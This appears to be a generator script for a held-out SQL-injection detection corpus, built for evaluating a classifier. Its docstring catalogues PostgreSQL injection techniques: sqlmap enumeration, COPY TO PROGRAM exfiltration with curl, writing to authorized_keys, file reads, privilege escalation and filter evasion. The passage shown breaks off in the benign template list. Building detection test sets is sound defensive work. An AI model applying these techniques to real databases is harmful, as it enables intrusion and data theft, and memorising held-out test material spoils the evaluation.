#!/usr/bin/env python3
"""Generator for the fourteenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_fourteenth.py [OUTPUT]      # default: fourteenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (as in
make_ninth.py to make_thirteenth.py); rows whose text occurs in any earlier
corpus (dev to thirteenth) are skipped.  2,814 rows: 1,316 attacks (46.8 %)
and 1,498 benign.  Written for generalization, so the templates, payload
lists and benign generators are new for this file:

* 73 application templates (`t14_<stack>_*`) on tables that none of the
  earlier corpora use (a maple sugar shack, a ropewalk, a fireworks display
  company, a saddlery, a thatching firm, a philatelic society's auctions, a
  salmon hatchery, a reindeer-herding cooperative, a fairground carousel
  restorer, a pipe band, truffle hunting, a yurt campsite, a harpsichord
  workshop, sheepdog trials, a paper-marbling studio), each the SQL text one
  stack sends after splicing a request parameter into it, in stacks the
  earlier files used little or not at all: Rust sqlx / diesel sql_query /
  tokio-postgres with format!, PHP PDO, Laravel DB::raw / whereRaw, WordPress
  $wpdb without prepare(), Java JDBC Statement, Spring JdbcTemplate, C#
  Npgsql, Prisma $queryRawUnsafe, Sequelize.literal (with its trailing `;`),
  TypeORM query builder (with a .comment() prefix), Drizzle sql.raw, Bun
  sql.unsafe, Deno postgres, Haskell postgresql-simple, Elixir Ecto
  fragment, OpenResty pgmoon and Julia LibPQ -- the other parameters stay
  bound as $n.  The shapes: SELECT DISTINCT ON, TABLESAMPLE BERNOULLI ...
  REPEATABLE, ORDER BY ... LIMIT ... FOR UPDATE SKIP LOCKED job queues,
  pg_advisory_xact_lock(hashtext(...)), pg_try_advisory_xact_lock,
  pg_notify('chan', <input>), SET LOCAL app.x / SET application_name / SET
  statement_timeout / set_config() with the input as the value,
  jsonb_path_exists / jsonb_path_query with the input inside the jsonpath
  (a member name, a string, a number), websearch_to_tsquery and
  phraseto_tsquery, tstzrange && and <@, daterange && and @> date, UPDATE
  ... FROM (VALUES ...), INSERT ... SELECT ... WHERE NOT EXISTS, MERGE INTO
  ... USING (VALUES ...), FETCH FIRST n ROWS WITH TIES, TABLE t_<input>, IS
  DISTINCT FROM, BETWEEN SYMMETRIC, = ANY($1), = ANY('{...}'::int[]) and
  ANY(ARRAY[...]::numeric[]), array slices [a:b], NULLS LAST, COLLATE "C",
  OVERLAPS, GROUPING SETS, CROSS JOIN LATERAL, a window frame offset,
  CREATE TEMP TABLE ... AS, COPY (SELECT ... WHERE ...) TO STDOUT, EXPLAIN
  (FORMAT JSON) and PREPARE ... AS.  The input lands in quoted strings, an
  E'' note, a `$note$` body, numbers, IN and ARRAY lists, quoted and bare
  identifiers, ORDER BY columns and directions, LIMIT/OFFSET/FETCH counts,
  interval strings, jsonb keys and documents, LIKE/ILIKE and `~*` patterns,
  `'{...}'` arrays and setting values;
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests, weighted to the tests the
  earlier generators left out (OR ... (NOT), OR ... (subquery - comment),
  Parameter replace (DUAL) and (DUAL - original value), the PostgreSQL
  (original value) and (GENERATE_SERIES - original value) replacements, the
  ORDER BY (original value) and (GENERATE_SERIES - original value) forms,
  Stacked queries (GENERATE_SERIES), heavy-query time tests without and
  with comments, the error-based ORDER BY (GENERATE_SERIES) test, the
  non-comment Glibc and heavy stacked tests), with detection inferences
  and enumeration inferences for --banner, --current-user, --current-db,
  --hostname, --is-dba, --users, --passwords -U, --privileges -U, --roles,
  --dbs (pg_database), --tables -D, --columns (types and counts), --count,
  --dump (also with --where), --search -T/-C, --statements, --sql-query,
  --common-tables / --common-columns EXISTS checks and the --udf-inject
  check, spelled as sqlmap spells them under --no-escape, --no-cast and
  --hex as well as by default; its boundaries (bracket counts that fit the
  slot most of the time, `AND 'x'='x`, `AND 'x' LIKE 'x`, `OR 'x'='y`,
  `AND '%'='`, the pre-WHERE `) AS x WHERE n=n` boundaries, the
  `'||(SELECT 'x' WHERE n=n AND ...)||'` boundary for values, `-- Rand`
  comments, negative values for OR tests); its takeover statements (COPY
  FROM PROGRAM with a CHR()-spelled command, lo_import / pg_largeobject /
  lo_export file transfer, sys_exec / sys_eval UDFs, cleanup); a few other
  back-ends' tests (MySQL FLOOR and RLIKE, SQL Server IN, Oracle
  DBMS_PIPE, SQLite RANDOMBLOB); and for about one request in ten a tamper
  script none of the earlier corpora used (versionedkeywords,
  halfversionedmorekeywords, modsecurityversioned,
  modsecurityzeroversioned, space2mysqlblank, space2hash, space2morehash,
  unmagicquotes, concat2concatws) or a chain of scripts (--tamper=between,
  randomcase,space2comment and five more).  The hand families are
  PostgreSQL techniques written for this file: tautologies through jsonb
  `?`, `?|`, `?&`, `@>` and `@@`, IS TRUE / IS NOT TRUE / IS DISTINCT FROM,
  ANY/ALL over series and arrays, LIKE ALL / ILIKE ANY, ranges (-|-, &&,
  @>), regexp_like / regexp_count / starts_with, row comparisons, bit
  strings, cidr >>=, phrase search, plus open forms the template's quote
  closes; inference by get_byte(convert_to()), octet_length, bit_length,
  starts_with, SIMILAR TO alternations, regexp_count / regexp_substr /
  regexp_instr / regexp_like, string_to_array(x, NULL), md5 nibbles,
  COLLATE "C" bisection, reverse(), to_hex(get_byte()), jsonpath like_regex
  and privilege / role / setting / catalog questions (pg_has_role,
  row_security_active, to_regrole, is_superuser, pg_control_system());
  time by pg_sleep_for / pg_sleep_until, crypt() with gen_salt('bf', n),
  md5(repeat()) series, advisory-lock waits, dblink to itself, catalog
  cross joins, regex backtracking and LOCK TABLE; error leaks by casts to
  circle, lseg, regprocedure, regoperator, macaddr8, bit(8), int4range and
  int[] literals, interval, json_populate_record / jsonb_populate_record,
  xmlparse(content), make_date, to_date(.., 'J'), to_timestamp(float8),
  uuid_in / numeric_in, and conditional errors (range bounds, sqrt of a
  negative, ln(0), chr(0), an invalid regex, 30 February); UNION arms
  (UNION DISTINCT, typed NULL::text columns, FROM (SELECT ...) x, LIMIT
  OFFSET) over pg_stat_user_functions, pg_trigger, pg_event_trigger,
  pg_publication, pg_cursors, pg_control_system(), pg_control_checkpoint(),
  pg_current_logfile(), pg_stat_archiver, pg_stat_gssapi, pg_tablespace
  locations, pg_parameter_acl, pg_default_acl, pg_shdescription,
  foreign-data-wrapper and foreign-table options, pg_replication_origin,
  pg_show_all_file_settings(), pg_stat_get_activity(NULL), pg_group,
  SECURITY DEFINER functions, pg_stat_recovery_prefetch and
  pg_stat_subscription_stats; stacked ALTER SYSTEM (session_preload_
  libraries, quiet logging, hba_file, RESET ALL) with pg_reload_conf(),
  CREATE EXTENSION (dblink into pg_catalog, plperlu, adminpack), ALTER ROLE
  ... IN DATABASE, CREATE USER ... IN ROLE pg_read_all_data, GRANT SET / ALTER
  SYSTEM ON PARAMETER (PostgreSQL 15), publications, session_replication_
  role, DISABLE TRIGGER ALL, ALTER DEFAULT PRIVILEGES, rules,
  pg_terminate_backend sweeps, DROP DATABASE ... WITH (FORCE), an index on
  a sleeping expression, UPDATE pg_authid and more; file and network access
  by COPY TO authorized_keys / a web root, COPY TO PROGRAM (curl -d @file,
  ping, a base64-decoded script, a POST of the loot), COPY FROM PROGRAM
  dig, pg_read_file with missing_ok, pg_read_binary_file ranges, the newest
  log file, lo_import + lo_get, lo_put + lo_export, postgres_fdw servers and
  subscriptions pointing outwards, archive_command and
  ssl_passphrase_command, dblink_connect_u DNS names and dblink_send_query;
  DO LANGUAGE plperlu, ASSERT leaks, quote_ident-built EXECUTE, terminate
  loops, format('%L')-built COPY PROGRAM, a public.lower() hijack,
  SECURITY DEFINER sql functions, notify triggers, BEGIN ATOMIC procedures,
  RETURN QUERY EXECUTE, plpython3u urllib, set_config('role') and advisory
  wait loops with new dollar tags ($fn$, $π$, $ŋ$, $ä$, $Q9$, ...);
  dollar-quoted jsonb keys, roles, paths and patterns; E'' strings with
  \\uXXXX, three-digit octal and mixed escapes, U&'' with UESCAPE and
  \\+XXXXXX, U&"" function, column and table names, unistr(); `'||...||'`
  splices of row_to_json(pg_authid), to_jsonb, array_to_json, xmlagg,
  concat_ws, sha256, format('%L'), translate, jsonb_object_agg over
  pg_settings and friends.  Breakouts close the slot's quote (and the
  brackets an expression needs) and end with `--` variants, `;--`, `/*` or
  `#`.  Comment truncation uses new comment spellings (`--#`, `--*`,
  `--/**/`, `-- --`, `--=`, `;--<tab>`, `/* word`, `--|`, `--^`, `--!-`,
  `; /*`, ...).  Obfuscation reshapes payloads outside their literals:
  swapped, vowel and every-third-letter case, tab/CR/FF runs and now and
  then a vertical tab, `/*<newline>*/`, `/*!50000*/`, `/**_**/`, `--x<newline>` comments
  (and, rarely, a keyword split by a comment, a MySQL habit), and no spaces
  (parentheses, quoted relation names);
* benign rows from new input pools (names with apostrophes, SQL words,
  URLs and e-mails, JSON, long text, Unicode, whitespace, numbers as
  strings, typed values for the typed slots, identifiers), attack strings
  escaped correctly for their slot (`escaped_attack_string`), new complex
  generators (`cx14_*`: Prisma, Sequelize, TypeORM, Drizzle, Ecto, Diesel,
  EF Core on Npgsql, Eloquent, Spring Data JPA and Doctrine output; sqlx
  QueryBuilder, goqu, PyPika, postgres.js, hasql and go-jet statements;
  gaps-and-islands, running totals, RANGE interval frames, DISTINCT ON,
  LATERAL top-n, recursive chains, MATERIALIZED CTEs, GROUPS frames with
  EXCLUDE TIES, FILTER pivots; UNION ALL / EXCEPT / INTERSECT / VALUES
  reports; PostgreSQL 15 regexp functions, ranges and multiranges, jsonpath,
  network and array built-ins; sqlc `-- name:` headers, TypeORM comments,
  sqlcommenter, marginalia, pg_hint_plan hints, block and nested comments;
  Prisma, Liquibase, sqlx, Ecto, Laravel, Sequelize and Diesel migration
  bookkeeping, an EXCLUDE USING gist constraint, NOT VALID foreign keys,
  UNIQUE NULLS NOT DISTINCT, security_invoker views; jsonb_to_recordset
  batches; VACUUM/REINDEX/CLUSTER and progress views; SKIP LOCKED job
  transactions; COPY; catalog introspection; PL/pgSQL and SQL-standard
  function bodies; full-text search) and regression-test-style statements
  written for this file (`regress14:<file>.sql`: DISTINCT ON, TABLESAMPLE,
  MERGE, WITH TIES, UPDATE ... FROM VALUES, advisory locks, LISTEN/NOTIFY,
  GUCs, jsonpath, multiranges, PostgreSQL 15 regexp functions, array
  slices, OVERLAPS, GROUPS frames, SEARCH BREADTH FIRST, partitions,
  publications, GRANT SET ON PARAMETER, BEGIN ATOMIC, typed literals and
  more).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes into a
standard string, quote doubling only into E'').

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs): every benign row parses; 1,002 of the 1,316 attacks parse and 314 do
not (154 are untampered sqlmap requests whose boundary does not fit the slot
-- the wrong number of brackets, a pre-WHERE `AS x WHERE` boundary, a
condition or expression after a SET value or in a window frame, a stacked
query that leaves a VALUES list in FROM without its alias, a MySQL `#` --;
63 more are tampered, 22 of them by versionedkeywords; 14 are other
back-ends' vectors; 33 hand-written rows end in `#` and 22 in an
unterminated `/*`; 5 leave an unaliased VALUES list; one carries a vertical
tab; 22 others close a subquery, a COPY or a function call at the wrong
place or split a keyword with a comment).  There is no `parses` field, as
in the seventh to thirteenth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SQLMAP_FINGERPRINT, SlotCorpus, addslashes, bisection, by_template, chrs, closers, dollar_safe, double_quotes,  # noqa: E402
                        identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q, quoted_ident_breakout, randnum, rdate,
                        registry, regress_list, render, rstr, rts as ts, rword, sqlmap_delays, strip_andor, text_input, typed_input,
                        union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids  # noqa: E402
from functools import partial  # noqa: E402

SEED = 14141414
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth", "thirteenth")
PG = "PostgreSQL"

# ---------------------------------------------------------------- application templates
# Each template is the text one stack sends to PostgreSQL after splicing a
# request parameter into its SQL (the stack is the second part of the name;
# the other parameters stay bound as $n, as the driver rewrites them).  Slot
# types: q '...', e E'...', d $note$...$note$, qi "...", n number, list
# (numbers joined with commas), col (ORDER BY expression), dir (ASC/DESC),
# ident (part of a bare identifier).  A third element "typed:KIND" says the
# literal is read as a value of that kind (see typed_value); a fourth
# overrides what closes the slot for a breakout.
T = [
 # maple sugar shack -- Rust sqlx with format!
 ("t14_sqlx_sap_latest", "SELECT DISTINCT ON (tap_line) tap_line, read_at, sap_brix, vacuum_inhg FROM sap_line_readings WHERE sugarbush = '{a}' AND read_at >= now() - interval '{b}' ORDER BY tap_line, read_at DESC",
  {"a": ("q", ["Bois-Francs north", "Lot 7 erabliere"]), "b": ("q", ["6 hours", "2 days"], "typed:interval")}),
 ("t14_sqlx_boil_queue", "SELECT boil_id, batch_litres, pan_no FROM evaporator_boil_queue WHERE status = 'waiting' AND pan_no = {a} ORDER BY queued_at LIMIT {b} FOR UPDATE SKIP LOCKED",
  {"a": ("n", ["2", "1"]), "b": ("n", ["1", "5"])}),
 ("t14_sqlx_grade_band", "SELECT grade, colour_class, taste_note FROM syrup_grading WHERE light_transmittance BETWEEN SYMMETRIC {a} AND {b} AND season = $1 ORDER BY light_transmittance",
  {"a": ("n", ["75", "44"]), "b": ("n", ["50.5", "27"])}),
 ("t14_sqlx_tenant", "SET LOCAL app.sugarbush_id = '{a}'",
  {"a": ("q", ["SB-0042", "erabliere-7"], "typed:setting")}),
 # maple sugar shack -- Rust tokio-postgres, query text from format!
 ("t14_tokiopg_producer_cfg", "SELECT set_config('app.producer_code', '{a}', true), current_setting('app.producer_code')",
  {"a": ("q", ["QC-11873", "VT-00412"], "typed:setting")}),
 ("t14_tokiopg_sap_copy", "COPY (SELECT tap_id, litres, collected_at FROM sap_collections WHERE collected_on = '{a}' AND route_no = {b}) TO STDOUT WITH (FORMAT csv, HEADER true)",
  {"a": ("q", ["2025-03-14", "2024-04-02"], "typed:date"), "b": ("n", ["4", "12"])}),
 ("t14_tokiopg_barrel_grade", "SELECT b.barrel_no, g.grade FROM syrup_barrels b CROSS JOIN LATERAL (SELECT sg.grade FROM syrup_grading sg WHERE sg.light_transmittance <= b.transmittance ORDER BY sg.light_transmittance DESC LIMIT 1) g WHERE b.producer = '{a}' AND b.filled_on >= $1",
  {"a": ("q", ["Ferme Gagnon", "Sweet Hollow Farm"])}),
 # ropewalk -- Rust diesel sql_query(format!(...))
 ("t14_diesel_rope_orders", "SELECT order_no, fibre, diameter_mm, length_m FROM ropewalk_orders WHERE fibre = ANY('{{a}}'::text[]) AND length_m > $1 ORDER BY {b} NULLS LAST",
  {"a": ("q", ["manila,hemp", "sisal"], "typed:arr"), "b": ("col", ["diameter_mm", "length_m DESC", "order_no"])}),
 ("t14_diesel_strand_twist", "UPDATE cordage_strands AS s SET twist_per_m = v.tpm FROM (VALUES ({a}, {b}), ($1, $2)) AS v(strand_id, tpm) WHERE s.strand_id = v.strand_id RETURNING s.strand_id, s.twist_per_m",
  {"a": ("n", ["311", "47"]), "b": ("n", ["18.5", "22"])}),
 ("t14_diesel_break_tests", "SELECT test_id, rope_id, breaking_load_kn FROM rope_break_tests WHERE tested_at <@ tstzrange('{a}', '{b}', '[)') ORDER BY breaking_load_kn DESC FETCH FIRST {c} ROWS WITH TIES",
  {"a": ("q", ["2025-01-01 00:00", "2024-06-01 08:00+00"], "typed:ts"), "b": ("q", ["2025-02-01 00:00", "2024-07-01 08:00+00"], "typed:ts"), "c": ("n", ["10", "3"])}),
 ("t14_diesel_splice_note", "INSERT INTO ropewalk_notes (order_no, note, written_at) SELECT order_no, E'{a}', now() FROM ropewalk_orders WHERE order_no = {b} AND NOT EXISTS (SELECT 1 FROM ropewalk_notes n WHERE n.order_no = ropewalk_orders.order_no)",
  {"a": ("e", ["eye splice both ends", "tarred; coil anticlockwise"]), "b": ("n", ["7781", "120"])}),
 # fireworks display company -- Java JDBC Statement with concatenation
 ("t14_jdbc_shells", "SELECT shell_code, calibre_mm, effect FROM pyro_shell_inventory WHERE effect ILIKE '%{a}%' AND net_explosive_g <= {b} ORDER BY calibre_mm DESC, shell_code",
  {"a": ("q", ["peony", "crossette"]), "b": ("n", ["250", "80"])}),
 ("t14_jdbc_cues", "SELECT cue_no, fire_offset, module_id FROM display_firing_cues WHERE show_id = {a} AND fire_offset BETWEEN '{b}'::interval AND '{c}'::interval ORDER BY fire_offset",
  {"a": ("n", ["88", "1203"]), "b": ("q", ["00:01:30", "0 seconds"], "typed:interval"), "c": ("q", ["00:04:00", "10 minutes"], "typed:interval")}),
 ("t14_jdbc_permits", "MERGE INTO display_site_permits p USING (VALUES ('{a}', '{b}'::date)) AS s(site_ref, valid_until) ON p.site_ref = s.site_ref WHEN MATCHED THEN UPDATE SET valid_until = s.valid_until WHEN NOT MATCHED THEN INSERT (site_ref, valid_until) VALUES (s.site_ref, s.valid_until)",
  {"a": ("q", ["HARBOUR-EAST", "Castle Green"]), "b": ("q", ["2025-11-05", "2026-01-01"], "typed:date")}),
 ("t14_jdbc_manifest_copy", "COPY (SELECT shell_code, qty, un_number FROM transport_manifests WHERE manifest_no = '{a}' ORDER BY shell_code) TO STDOUT WITH (FORMAT csv, HEADER true)",
  {"a": ("q", ["TM-2025-0412", "bonfire-night/3"])}),
 # fireworks display company -- Bun sql.unsafe()
 ("t14_bun_show_lock", "SELECT pg_advisory_xact_lock(hashtext('{a}')), now() AS locked_at",
  {"a": ("q", ["show:guy-fawkes-2025", "rehearsal-B"])}),
 ("t14_bun_wind", "SELECT site_ref, max_wind_kmh, fallout_radius_m FROM display_wind_limits WHERE site_ref = '{a}' AND max_wind_kmh >= {b} ORDER BY max_wind_kmh FETCH FIRST 1 ROW ONLY",
  {"a": ("q", ["HARBOUR-EAST", "Racecourse"]), "b": ("n", ["35", "20"])}),
 ("t14_bun_prepare", "PREPARE cue_lookup (int) AS SELECT cue_no, effect FROM display_firing_cues WHERE show_id = $1 AND effect = '{a}'",
  {"a": ("q", ["gold willow", "silver strobe"])}),
 # saddlery -- Spring JdbcTemplate, string concatenation beside named parameters
 ("t14_jdbctemplate_fittings", "SELECT f.fitting_id, f.horse_name, f.tree_width FROM saddle_fittings f WHERE f.customer_id = $1 AND f.tree_width IS DISTINCT FROM '{a}' ORDER BY f.{b} {c}",
  {"a": ("q", ["medium-wide", "XW"]), "b": ("col", ["fitted_on", "horse_name", "fitting_id"]), "c": ("dir", ["DESC", "ASC"])}),
 ("t14_jdbctemplate_hides", "SELECT hide_lot, tannery, thickness_mm FROM leather_hide_lots WHERE tannery = '{a}' AND thickness_mm = ANY(ARRAY[{b}]::numeric[]) LIMIT {c} OFFSET {d}",
  {"a": ("q", ["Sedgwick", "Bakers of Colyton"]), "b": ("list", ["3.5, 4", "4.5"]), "c": ("n", ["25", "10"]), "d": ("n", ["0", "50"])}),
 ("t14_jdbctemplate_repairs", "SELECT repair_id, item, diagnosis FROM tack_repair_queue WHERE bench = '{a}' AND claimed_by IS NULL ORDER BY priority DESC, received_at LIMIT 1 FOR UPDATE SKIP LOCKED",
  {"a": ("q", ["stitching", "tree repair"])}),
 ("t14_jdbctemplate_notify", "SELECT pg_notify('saddle_ready', '{a}')",
  {"a": ("q", ["order 4471 ready", "{\"fitting\": 88}"])}),
 ("t14_jdbctemplate_diagnosis", "UPDATE tack_repair_queue SET diagnosis = E'{a}', claimed_by = $1 WHERE repair_id = {b}",
  {"a": ("e", ["girth strap torn; replace buckle", "flocking lumpy"]), "b": ("n", ["5120", "77"])}),
 # thatching firm -- C# Npgsql, interpolated command text
 ("t14_npgsql_reed", "SELECT \"BundleId\", \"ReedType\", \"LengthCm\" FROM \"ReedBundles\" WHERE \"Supplier\" = '{a}' AND \"LengthCm\" > {b} ORDER BY \"{c}\" DESC",
  {"a": ("q", ["Norfolk Reed Co", "Danube delta"]), "b": ("n", ["150", "90"]), "c": ("qi", ["LengthCm", "BundleId"])}),
 ("t14_npgsql_jobs", "SELECT \"JobId\", \"Village\", \"RoofPitch\" FROM \"ThatchJobs\" WHERE \"Scheduled\" && tstzrange('{a}', '{b}') AND \"Status\" <> 'cancelled' ORDER BY lower(\"Scheduled\")",
  {"a": ("q", ["2025-05-01 07:00", "2024-09-02"], "typed:ts"), "b": ("q", ["2025-05-31 18:00", "2024-09-30"], "typed:ts")}),
 ("t14_npgsql_timeout", "SET statement_timeout = {a}",
  {"a": ("n", ["5000", "30000"])}),
 ("t14_npgsql_ridges", "SELECT \"PatternId\", \"Name\" FROM \"RidgePatterns\" WHERE \"Name\" ~* '{a}' OR \"Tags\" @> ARRAY['{b}']::text[]",
  {"a": ("q", ["^scallop", "diamond$"], "typed:regex"), "b": ("q", ["block-cut", "flush ridge"])}),
 # philatelic society auctions -- Prisma $queryRawUnsafe
 ("t14_prisma_lots", "SELECT \"id\", \"lotNumber\", \"catalogueRef\", \"reserveCents\" FROM \"public\".\"PhilatelicLot\" WHERE \"auctionId\" = $1 AND \"catalogueRef\" LIKE '{a}' ORDER BY \"{b}\" ASC LIMIT {c}",
  {"a": ("q", ["SG 1%", "Scott C3_"], "typed:like"), "b": ("qi", ["lotNumber", "reserveCents"]), "c": ("n", ["50", "20"])}),
 ("t14_prisma_perfs", "SELECT \"id\", \"stampId\", \"gauge\" FROM \"public\".\"PerforationMeasure\" WHERE \"gauge\" BETWEEN {a} AND {b} AND \"stampId\" = ANY($1)",
  {"a": ("n", ["11.5", "12"]), "b": ("n", ["14", "12.75"])}),
 ("t14_prisma_watermarks", "SELECT \"id\", \"description\" FROM \"public\".\"Watermark\" WHERE to_tsvector('english', \"description\") @@ websearch_to_tsquery('english', '{a}') LIMIT 50",
  {"a": ("q", ["crown CA", "\"multiple crown\" -script"], "typed:tsq")}),
 ("t14_prisma_bids", "SELECT \"bidderId\", max(\"amountCents\") AS \"top\" FROM \"public\".\"Bid\" WHERE \"lotId\" IN ({a}) GROUP BY \"bidderId\" HAVING max(\"amountCents\") > {b} ORDER BY \"top\" DESC",
  {"a": ("list", ["1041, 1042, 1077", "88"]), "b": ("n", ["5000", "120000"])}),
 # salmon hatchery -- Sequelize.literal() inside generated SQL
 ("t14_sequelize_tanks", "SELECT \"Tank\".\"id\", \"Tank\".\"label\", \"Tank\".\"tempC\" FROM \"HatcheryTanks\" AS \"Tank\" WHERE \"Tank\".\"hatcheryId\" = 3 AND abs(\"Tank\".\"tempC\" - {a}) <= 2 ORDER BY {b};",
  {"a": ("n", ["8.5", "11"]), "b": ("col", ["\"Tank\".\"label\"", "\"Tank\".\"tempC\" DESC", "\"Tank\".\"id\""])}),
 ("t14_sequelize_release", "INSERT INTO \"SmoltReleases\" (\"id\",\"river\",\"count\",\"releasedAt\") VALUES (DEFAULT,'{a}',{b},'{c}') RETURNING \"id\",\"river\",\"count\",\"releasedAt\";",
  {"a": ("q", ["River Dee", "Glenmoriston burn"]), "b": ("n", ["12000", "850"]), "c": ("q", ["2025-04-22 06:30:00.000 +00:00", "2024-05-02 05:45"], "typed:ts")}),
 ("t14_sequelize_feed", "SELECT \"FeedPlan\".\"id\", \"FeedPlan\".\"schedule\" FROM \"FeedPlans\" AS \"FeedPlan\" WHERE \"FeedPlan\".\"schedule\" @> '{a}'::jsonb AND jsonb_path_exists(\"FeedPlan\".\"schedule\", '$.meals[*] ? (@.grams > {b})');",
  {"a": ("q", ["{\"stage\": \"parr\"}", "{\"pellet\": \"2mm\"}"], "typed:json"), "b": ("q", ["40", "12.5"], "typed:jpnum")}),
 ("t14_sequelize_eggs", "SELECT \"EggBatch\".\"id\", \"EggBatch\".\"strain\" FROM \"EggBatches\" AS \"EggBatch\" WHERE \"EggBatch\".\"strain\" = '{a}' AND \"EggBatch\".\"eyedAt\" IS NOT NULL ORDER BY \"EggBatch\".\"fertilisedAt\" {b} LIMIT {c};",
  {"a": ("q", ["Shin wild", "Conon 2024"]), "b": ("dir", ["DESC", "ASC"]), "c": ("n", ["30", "100"])}),
 # salmon hatchery -- Julia LibPQ.jl execute() with string interpolation
 ("t14_libpqjl_water", "SELECT tank_id, date_trunc('hour', sampled_at) AS h, avg(dissolved_o2) AS o2 FROM hatchery_water_samples WHERE tank_id = ANY('{{a}}'::int[]) GROUP BY 1, 2 ORDER BY 2 DESC LIMIT {b}",
  {"a": ("q", ["3,4,9", "12"], "typed:arrint"), "b": ("n", ["48", "12"])}),
 ("t14_libpqjl_explain", "EXPLAIN (FORMAT JSON, COSTS false) SELECT * FROM hatchery_water_samples WHERE sampled_at > '{a}' AND tank_id = {b}",
  {"a": ("q", ["2025-03-01 00:00", "2024-12-24 18:00"], "typed:ts"), "b": ("n", ["9", "14"])}),
 ("t14_libpqjl_shifts", "SELECT shift_id, keeper FROM hatchery_night_shifts WHERE (starts_at, ends_at) OVERLAPS ('{a}'::timestamptz, interval '{b}') ORDER BY starts_at",
  {"a": ("q", ["2025-02-10 22:00", "2024-11-30 20:00+00"], "typed:ts"), "b": ("q", ["8 hours", "1 day"], "typed:interval")}),
 # reindeer herding cooperative -- TypeORM query builder with template strings
 ("t14_typeorm_herd", "SELECT \"r\".\"id\" AS \"r_id\", \"r\".\"ear_mark\" AS \"r_ear_mark\", \"r\".\"born_year\" AS \"r_born_year\" FROM \"reindeer\" \"r\" WHERE \"r\".\"siida\" = $1 AND \"r\".\"ear_mark\" = '{a}' AND \"r\".\"born_year\" >= {b}",
  {"a": ("q", ["V-cut left, hole right", "Sara 14"]), "b": ("n", ["2019", "2022"])}),
 ("t14_typeorm_pasture", "/* pasture-planner */ SELECT \"p\".\"id\" AS \"p_id\", \"p\".\"name\" AS \"p_name\" FROM \"pasture_rotations\" \"p\" WHERE \"p\".\"grazing_window\" && daterange('{a}', '{b}', '[]') ORDER BY lower(\"p\".\"grazing_window\")",
  {"a": ("q", ["2025-06-01", "2024-09-15"], "typed:date"), "b": ("q", ["2025-08-31", "2024-11-30"], "typed:date")}),
 ("t14_typeorm_calves", "UPDATE \"calf_markings\" SET \"marked_by\" = '{a}', \"marked_at\" = now() WHERE \"calf_id\" IN ({b}) AND \"marked_at\" IS NULL",
  {"a": ("q", ["Ande Somby", "Inga"]), "b": ("list", ["4410, 4411", "93"])}),
 ("t14_typeorm_collars", "SELECT \"c\".\"collar_id\" AS \"c_collar_id\", \"c\".\"battery_pct\" AS \"c_battery_pct\" FROM \"gps_collars\" \"c\" WHERE \"c\".\"battery_pct\" < {a} ORDER BY \"c\".\"last_fix\" DESC NULLS LAST, \"c\".\"collar_id\" ASC LIMIT {b}",
  {"a": ("n", ["20", "35"]), "b": ("n", ["25", "100"])}),
 # fairground carousel restoration -- Drizzle sql.raw()
 ("t14_drizzle_horses", "select \"id\", \"carver\", \"paint_layers\"[{a}:{b}] as \"layers\" from \"carousel_horses\" where \"carver\" = '{c}' and \"row_position\" = {d}",
  {"a": ("n", ["1", "2"]), "b": ("n", ["3", "5"]), "c": ("q", ["Charles Looff", "Frederick Savage"]), "d": ("n", ["1", "3"])}),
 ("t14_drizzle_inspections", "select \"ride_id\", \"inspected_on\", \"inspector\" from \"fairground_ride_inspections\" where \"inspected_on\" between symmetric '{a}' and '{b}' order by \"inspected_on\" desc",
  {"a": ("q", ["2025-03-01", "2024-10-31"], "typed:date"), "b": ("q", ["2025-01-01", "2024-04-01"], "typed:date")}),
 ("t14_drizzle_organ_rolls", "select \"roll_id\", \"tune\", \"bars\" from \"band_organ_rolls\" where \"tune\" collate \"C\" >= '{a}' order by \"tune\" collate \"C\" limit {b}",
  {"a": ("q", ["Blaze Away", "Colonel Bogey"]), "b": ("n", ["40", "10"])}),
 ("t14_drizzle_gilding_tmp", "create temp table \"gilding_batch_tmp\" as select \"id\", \"horse_id\", \"gold_leaf_g\" from \"carousel_gilding\" where \"workshop\" = '{a}' and \"applied_on\" > '{b}'",
  {"a": ("q", ["Stockton yard", "the loft"]), "b": ("q", ["2024-01-01", "2025-02-15"], "typed:date")}),
 # pipe band -- PHP PDO, query string built by concatenation
 ("t14_pdo_sets", "SELECT set_id, tunes, tempo_bpm FROM pipe_band_sets WHERE competition_grade = '{a}' ORDER BY {b} {c}",
  {"a": ("q", ["Grade 2", "Juvenile"]), "b": ("col", ["tempo_bpm", "set_id", "array_length(tunes, 1)"]), "c": ("dir", ["ASC", "DESC"])}),
 ("t14_pdo_reeds", "SELECT reed_maker, strength, sum(qty) AS qty FROM chanter_reed_stock WHERE received_on >= $1 GROUP BY GROUPING SETS ((reed_maker), (strength), ()) HAVING sum(qty) > {a} ORDER BY 1 NULLS LAST",
  {"a": ("n", ["12", "0"])}),
 ("t14_pdo_drones", "SELECT drone, cents_off, tuned_at FROM drone_tuning_log WHERE player_id = $1 AND tuned_at > now() - '{a}'::interval AND drone = ANY('{{b}}'::text[])",
  {"a": ("q", ["3 days", "12 hours"], "typed:interval"), "b": ("q", ["bass,tenor", "tenor"], "typed:arr")}),
 ("t14_pdo_trylock", "SELECT pg_try_advisory_xact_lock({a}) AS got_lock",
  {"a": ("n", ["4471", "90210"])}),
 # truffle hunting -- Laravel DB::raw() / whereRaw() beside bound parameters
 ("t14_laravel_finds", "select * from \"truffle_finds\" where \"forest_plot\" = $1 and \"found_on\" >= $2 and species = '{a}' order by \"weight_g\" desc limit {b}",
  {"a": ("q", ["Tuber melanosporum", "T. aestivum"]), "b": ("n", ["15", "50"])}),
